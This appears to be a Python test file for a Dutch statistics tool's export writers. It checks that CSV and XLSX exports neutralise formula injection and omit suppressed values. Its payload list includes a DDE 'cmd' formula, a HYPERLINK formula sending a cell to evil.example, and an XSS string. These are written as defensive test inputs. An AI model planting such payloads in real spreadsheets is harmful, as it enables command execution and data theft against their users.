"""Adversarial tests of the export writers (``layers.export``) with hostile text.

Names can come from an upload or a renamed area, so any text may reach an
export. A spreadsheet must never evaluate it, the table must keep its shape,
and suppressed values must not travel along.
"""

from __future__ import annotations

import csv
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from layers.disclosure import suppress
from layers.export import RISKY_PREFIXES, read_csv_table, write_table

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+SUM(1,1)",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=alert(1)>",
    'Linden "aan" de, Dijk',
    "regel\nnieuwe regel",
    "-5",
]

_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r\n;,\"' aZé<>|!0123456789")), min_size=0, max_size=12
)


def _frame(names: list[str]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "code": [f"BU9999{i:04d}" for i in range(len(names))],
            "name": names,
            "score": np.linspace(-2.0, 2.0, len(names)),
        }
    )


def _read_csv(path) -> list[list[str]]:
    """The table rows of a CSV export, after its block of '#' source lines."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    first = next(i for i, row in enumerate(rows) if not (row and row[0].startswith("#")))
    assert all(len(row) == 1 for row in rows[:first])  # each source line is one cell
    return rows[first:]


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(names=st.lists(_TEXT, min_size=1, max_size=6), header=_TEXT.filter(bool))
def test_csv_never_starts_a_cell_with_a_formula_and_keeps_the_text(tmp_path, names, header):
    frame = (
        _frame(names).rename(columns={"name": header})
        if header not in ("code", "score")
        else _frame(names)
    )
    path = tmp_path / "uit.csv"
    write_table(frame, path)
    rows = _read_csv(path)
    assert len(rows) == len(frame) + 1  # newlines inside cells did not add rows
    for row in rows:
        assert len(row) == 3
        for cell in row:
            assert not cell.startswith(RISKY_PREFIXES) or _is_number(cell), cell
            for fragment in cell.split(";")[1:]:  # cells of a spreadsheet splitting on ';'
                assert not fragment.startswith(RISKY_PREFIXES), cell
    text_column = rows[0].index(next(c for c in rows[0] if c not in ("code", "score")))
    written = [r[text_column] for r in rows[1:]]
    expected = ["'" + n if n.startswith(RISKY_PREFIXES) else n for n in frame.iloc[:, 1]]
    expected = [re.sub(r";(?=[=+\-@\t\r])", ";'", n) for n in expected]
    assert written == expected
    assert [float(r[2]) for r in rows[1:]] == pytest.approx(frame["score"].tolist())


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_hostile_text_as_plain_strings(tmp_path, payload):
    frame = _frame([payload, "gewoon"]).rename(columns={"score": payload[:20] or "x"})
    path = tmp_path / "uit.xlsx"
    write_table(frame, path, metadata={"bron": payload})
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(path)  # formulas would show as "=..." with data_type "f"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    data = book.worksheets[0]
    # XML reading turns a bare CR into LF; the text is otherwise unchanged.
    assert data.cell(row=2, column=2).value == payload.replace("\r", "\n")
    if payload.startswith(RISKY_PREFIXES):
        assert data.cell(row=2, column=2).quotePrefix


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith(RISKY_PREFIXES)])
def test_csv_payloads_are_prefixed(tmp_path, payload):
    path = tmp_path / "uit.csv"
    write_table(_frame([payload]), path)
    assert _read_csv(path)[1][1] == "'" + payload


def test_csv_is_safe_when_a_semicolon_excel_splits_cells(tmp_path):
    # Excel with Dutch regional settings splits a comma CSV on ';', so the text after a ';'
    # inside a cell (or a metadata line) becomes a cell of its own: it must be neutral too.
    path = tmp_path / "uit.csv"
    names = ["Linden;=cmd|' /C calc'!A0", "Molen;+1+1", "a;;@SUM(A1)", "b; -1", "c;x"]
    write_table(_frame(names), path, metadata={"toelichting": "x;=1+1", "bron": "CBS;-2"})
    fragments = [
        f for line in path.read_text(encoding="utf-8").splitlines() for f in line.split(";")
    ]
    assert len(fragments) > 10
    for fragment in fragments:
        assert not fragment.lstrip('"').startswith(RISKY_PREFIXES), fragment
    # The comma CSV itself still reads back with the text intact apart from the apostrophes.
    table = read_csv_table(path)
    assert table["name"].tolist() == [
        "Linden;'=cmd|' /C calc'!A0",
        "Molen;'+1+1",
        "a;;'@SUM(A1)",
        "b; -1",
        "c;x",
    ]


def test_suppressed_values_do_not_reach_an_export(tmp_path):
    rows = [
        ("BU00010101", "buurt", "WK000101", 4.0),
        ("BU00010102", "buurt", "WK000101", 250.0),
        ("BU00010103", "buurt", "WK000101", 37.0),
        ("WK000101", "wijk", "WK000101", 291.0),
    ]
    frame = pd.DataFrame(rows, columns=["code", "level", "wijkcode", "gem_wmo"])
    frame["gemeentecode"] = "GM0001"
    result = suppress(frame, count_columns=["gem_wmo"])
    hidden = set(frame.loc[result.mask["gem_wmo"], "code"])
    assert {"BU00010101", "BU00010103"} <= hidden and "WK000101" not in hidden
    truth = dict(zip(frame["code"], frame["gem_wmo"], strict=True))
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"uit{suffix}"
        write_table(result.frame, path)
        table = read_csv_table(path) if suffix == ".csv" else pd.read_excel(path, sheet_name=0)
        values = dict(zip(table["code"], table["gem_wmo"], strict=True))
        for code, value in values.items():
            assert np.isnan(value) if code in hidden else value == truth[code]
        raw = path.read_bytes() if suffix == ".csv" else b""
        assert not any(f",{truth[code]},".encode() in raw for code in hidden)


def test_a_neutralised_export_cannot_be_uploaded_back_as_codes(tmp_path):
    from layers.upload import validate_upload

    path = tmp_path / "uit.csv"
    frame = pd.DataFrame({"code": ["=1+1", "BU99990000"], "n": [12.0, 15.0]})
    write_table(frame, path)
    result = validate_upload(path.read_bytes(), "uit.csv", level="buurt")
    assert not result.ok
    assert {i.kind for i in result.errors} == {"bad_code"}


def test_a_csv_export_can_be_uploaded_again_and_rows_are_counted_as_in_the_file(tmp_path):
    from layers.upload import validate_upload

    path = tmp_path / "uit.csv"
    frame = pd.DataFrame({"code": ["BU99990000", "BU99990001"], "wmo": [40.0, -3.0]})
    write_table(frame, path, metadata={"bronnen": {"CBS": "85984NED"}, "toelichting": "x;=1+1"})
    result = validate_upload(path.read_bytes(), "uit.csv", level="buurt")
    assert not result.ok and result.errors[0].kind == "negative"
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[result.errors[0].row - 1].startswith("BU99990001")
    good = frame.assign(wmo=[40.0, 3.0])
    write_table(good, path, metadata={"bronnen": {"CBS": "85984NED"}})
    again = validate_upload(path.read_bytes(), "uit.csv", level="buurt")
    assert again.ok
    assert again.frame["wmo"].tolist() == [40.0, 3.0]
